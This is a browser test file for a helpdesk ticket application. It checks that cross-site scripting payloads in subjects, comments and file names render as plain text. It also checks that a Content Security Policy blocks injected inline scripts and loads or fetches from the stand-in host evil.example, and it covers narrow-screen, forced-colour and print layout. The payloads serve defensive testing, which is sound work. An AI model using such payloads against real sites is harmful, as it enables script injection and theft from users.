import { describe, expect } from 'vitest';
import { apiAs } from '#support/browser/api-as';
import { openAtDesk } from '#support/browser/desk-deeds';
import { findSideways } from '#support/browser/find-sideways';
import { openATicket } from '#support/browser/open-a-ticket';
import { settle } from '#support/browser/settle';
import { story } from '#support/browser/story';
import { uploadFile } from '#support/browser/upload-file';

const script = `<script>alert('colpito')</script><img src=x onerror="alert(1)">`;
const fileName = '<img src=x onerror=alert(2)>.txt';
const longWord = 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'.repeat(4);

describe('somebody who reads what an attacker wrote', () => {
  story('sees scripts as text in subject, description, messages and file names, on every page', async ({ as }) => {
    const subject = `${script} oggetto`;
    const number = await openATicket({ subject, description: `${script}\n\n[qui](javascript:alert(3))` });
    const giulia = await apiAs('giulia');
    const attachment = await uploadFile(giulia, fileName);
    const text = `${script}\n\n\`\`\`html\n${script}\n\`\`\`\n\n[clic](javascript:alert(4)) ![x](javascript:alert(5))`;
    await giulia.post(`/v1/tickets/${number}/articles`, { kind: 'comment', text, attachments: [attachment] });
    const requester = await as('giulia');
    for (const path of ['/', '/tickets?show=all&order=opened', `/tickets/${number}`]) {
      await requester.goTo(path);
      await requester.page.getByText(subject).first().waitFor();
      await settle(requester.page);
    }
    await requester.page.getByText(fileName).first().waitFor();
    const sara = await as('sara', { language: 'en' });
    await sara.goTo('/desk/list?order=opened&direction=descending');
    await sara.page.getByText(subject).first().waitFor();
    await openAtDesk(sara, number);
    await sara.page.getByText(fileName).first().waitFor();
    for (const { page } of [requester, sara]) {
      expect(await page.locator('script:not([src])').count()).toBe(0);
      expect(await page.locator('a[href^="javascript:"], img[onerror], [onerror]').count()).toBe(0);
      expect(await page.title()).toContain(subject);
    }
  });

  story('is protected even from a script that got into the page', async ({ as }) => {
    const { page, faults } = await as('giulia');
    faults.expect(/Content Security Policy|evil\.example|nothing\.png/);
    const ran = await page.evaluate(async () => {
      const inline = document.createElement('script');
      inline.textContent = 'window.hit = true';
      document.body.append(inline);
      const foreign = document.createElement('script');
      foreign.src = 'https://evil.example/x.js';
      const refused = new Promise((resolve) => {
        foreign.onerror = () => resolve(true);
        foreign.onload = () => resolve(false);
      });
      document.body.append(foreign);
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.hit = true');
      image.src = '/nothing.png';
      document.body.append(image);
      const sent = await fetch('https://evil.example/').then(
        () => true,
        () => false,
      );
      return { hit: 'hit' in window, refused: await refused, sent };
    });
    expect(ran).toEqual({ hit: false, refused: true, sent: false });
  });

  story('never has to scroll sideways for a word without an end, at 320 px', async ({ as }) => {
    const number = await openATicket({ subject: longWord.slice(0, 190), description: longWord });
    await (await apiAs('giulia')).post(`/v1/tickets/${number}/articles`, { kind: 'comment', text: longWord });
    for (const [person, paths] of [
      ['giulia', ['/', '/tickets', `/tickets/${number}`]],
      ['sara', ['/desk', '/desk/list?order=opened&direction=descending', `/desk/tickets/${number}`]],
    ] as const) {
      const { page, goTo } = await as(person, { width: 'phone' });
      await page.setViewportSize({ width: 320, height: 640 });
      for (const path of paths) {
        await goTo(path);
        await settle(page);
        expect(await findSideways(page), path).toEqual([]);
      }
    }
  });

  story('keeps forced colours, text spacing and print apart from errors', async ({ as }) => {
    const number = await openATicket({ subject: 'Colori del sistema' });
    const { page, goTo } = await as('giulia');
    await page.emulateMedia({ forcedColors: 'active' });
    await goTo(`/tickets/${number}`);
    await settle(page);
    await page.evaluate(() => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(
        '* { line-height: 1.5 !important; letter-spacing: .12em !important; word-spacing: .16em !important }',
      );
      document.adoptedStyleSheets = [sheet];
    });
    expect(await findSideways(page)).toEqual([]);
    await page.emulateMedia({ media: 'print', forcedColors: 'none' });
    expect(await page.getByRole('navigation').first().isVisible()).toBe(false);
    expect(await page.getByText('Da stamattina la pagina').first().isVisible()).toBe(true);
  });
});
